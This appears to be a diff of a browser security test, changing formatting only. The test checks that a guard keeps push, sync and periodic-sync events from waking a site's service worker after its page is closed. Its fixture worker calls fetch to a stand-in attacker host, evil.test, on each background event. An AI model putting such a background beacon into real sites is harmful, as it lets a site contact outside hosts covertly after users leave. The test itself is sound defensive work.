@@ -16,7 +16,8 @@ const TEST_MS = 120_000;
 /** What may wake a site's worker when its page is long gone. */
 const WAKING = ["push", "sync", "periodicsync"] as const;
 const WORKER = WAKING.map(
-  (kind) => `addEventListener("${kind}", (event) => event.waitUntil(fetch("https://evil.test/${kind}", { mode: "no-cors" }).catch(() => {})));`,
+  (kind) =>
+    `addEventListener("${kind}", (event) => event.waitUntil(fetch("https://evil.test/${kind}", { mode: "no-cors" }).catch(() => {})));`,
 ).join("\n");
 /** It says what it got. */
 const PAGE = `<!doctype html><link rel="icon" href="data:,"><p>words that stay</p><output></output><script type="module">
@@ -43,8 +44,15 @@ beforeAll(async () => {
   await writeFile(ca, authority.cert + authority.key);
   worlds = { guarded: await openWorld(), plain: await openWorld() };
   for (const world of Object.values(worlds))
-    world.serve({ "shop.test/background": { body: PAGE }, "shop.test/worker.js": { headers: { "content-type": "text/javascript" }, body: WORKER } });
-  session = await openSession({ allow: ["shop.test"], hostMap: worlds.guarded.hostMap, browser: { path: chromiumProgram(), ca } });
+    world.serve({
+      "shop.test/background": { body: PAGE },
+      "shop.test/worker.js": { headers: { "content-type": "text/javascript" }, body: WORKER },
+    });
+  session = await openSession({
+    allow: ["shop.test"],
+    hostMap: worlds.guarded.hostMap,
+    browser: { path: chromiumProgram(), ca },
+  });
 });
 afterAll(async () => {
   controls.close();
@@ -53,7 +61,10 @@ afterAll(async () => {
   await rm(directory, { recursive: true, force: true });
 });
 
-/** Opens the page and wakes every worker there is as the browser's own services would: no server of a vendor is there to push, no site is used for days. Resolves with what the page was told. */
+/**
+ * Opens the page and wakes every worker there is as the browser's own services would: no server of a vendor is there to
+ * push, no site is used for days. Resolves with what the page was told.
+ */
 async function wake(page: Page): Promise<string> {
   const devtools = await page.context().newCDPSession(page);
   const registrations = new Set<string>();
@@ -80,7 +91,8 @@ test("A-104: push, sync and periodic sync find no worker to wake", { timeout: TE
   expect(worlds.guarded.evil).toMatchObject({ requests: [], connections: 0 });
 });
 
-// A page cannot bring Chromium without a window to push or to sync by itself, so the events are made as its developer tools make them.
+// A page cannot bring Chromium without a window to push or to sync by itself, so the events are made as its developer
+// tools make them.
 test("A-104: without the guard each of them wakes a worker that sends", { timeout: TEST_MS }, async ({ task }) => {
   const { told, woken } = await controls.outcome("A-104 waking", { page: PAGE, worker: WORKER }, async () => {
     const words = await wake(await (await plain.context()).newPage());
@@ -89,7 +101,8 @@ test("A-104: without the guard each of them wakes a worker that sends", { timeou
     return { told: words.replace("told: ", ""), woken: arrived() };
   });
   console.log(`not counted: A-104 push, sync and periodic sync that no developer tool starts: a page gets ${told}`);
-  expect(woken, failure(task, { scenario: "A-104", expected: "each wakes a worker that sends to evil.test", received: woken })).toEqual(
-    WAKING.map((kind) => `GET evil.test/${kind}`).toSorted(),
-  );
+  expect(
+    woken,
+    failure(task, { scenario: "A-104", expected: "each wakes a worker that sends to evil.test", received: woken }),
+  ).toEqual(WAKING.map((kind) => `GET evil.test/${kind}`).toSorted());
 });
